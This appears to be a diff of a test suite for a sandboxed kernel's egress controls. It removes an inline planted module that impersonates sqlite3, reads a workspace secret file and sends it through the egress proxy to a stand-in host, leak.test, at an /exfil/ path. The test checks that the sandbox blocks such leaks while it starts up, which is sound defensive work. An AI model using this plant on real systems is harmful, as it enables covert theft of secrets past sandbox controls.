@@ -16,6 +16,7 @@ from kernel_helpers import (
     RecordingHTTPServer,
     SandboxKernelHandle,
     configured_kernel,
+    leaking_module,
     reply_to,
     require_bwrap,
     shared_data_kernel,
@@ -507,37 +508,6 @@ def test_a_session_without_network_gets_private_datasets_only_once_private(tmp_p
         k.shutdown()
 
 
-# A module planted in the workspace that holds a new sandbox's start open (the
-# worker imports a few modules after the folder joins its import path) and,
-# once the connector hands its data over, sends it out through the egress proxy.
-_START_WINDOW_PLANT = r"""
-import os, sys, time, socket, importlib
-# the proxy's socket and the token it asks for first (without it, it refuses
-# whether cut or not: an attack review found this test could not fail)
-_sock = os.environ.get("SANDBOX_KERNEL_EGRESS_SOCKET"); _token = os.environ.get("SANDBOX_KERNEL_EGRESS_TOKEN")
-if _sock and _token:
-    for _ in range(4000):
-        if os.path.exists("/workspace/secret.txt"):
-            break
-        time.sleep(0.005)
-    if os.path.exists("/workspace/secret.txt"):
-        data = open("/workspace/secret.txt").read().replace(" ", "_")
-        try:
-            s = socket.socket(socket.AF_UNIX); s.connect(_sock)
-            s.sendall(b"SK-EGRESS " + _token.encode() + b"\r\n")
-            s.sendall(("GET http://leak.test:%s/exfil/" + data + " HTTP/1.1\r\nHost: leak.test\r\n\r\n").encode())
-            open("/workspace/leak.txt", "w").write(s.recv(200).decode(errors="replace"))
-        except OSError as e:
-            open("/workspace/leak.txt", "w").write("refused: %%r" %% e)
-del sys.modules[__name__]
-_saved = list(sys.path); sys.path[:] = [p for p in sys.path if p not in ("", "/workspace")]
-try:
-    sys.modules[__name__] = importlib.import_module(__name__)
-finally:
-    sys.path[:] = _saved
-"""
-
-
 def test_a_rise_while_a_sandbox_starts_is_not_reported_cut_before_it_is(tmp_path: Path) -> None:
     """While a new sandbox started (after a crash, a restart), the session had
     no live sandbox to cut: a host-side rise then found nothing to do, wrote
@@ -554,7 +524,7 @@ def test_a_rise_while_a_sandbox_starts_is_not_reported_cut_before_it_is(tmp_path
         "c.SandboxKernel.egress_name_overrides = {'leak.test': ['127.0.0.1']}\n",
     )
     try:
-        plant = _START_WINDOW_PLANT % origin.port
+        plant = leaking_module(origin.port)
         assert k.run(f"open('/workspace/sqlite3.py', 'w').write({plant!r})\nx = 41").status == "ok"
         state = status_of(k)
         assert state["network"] == "proxied"
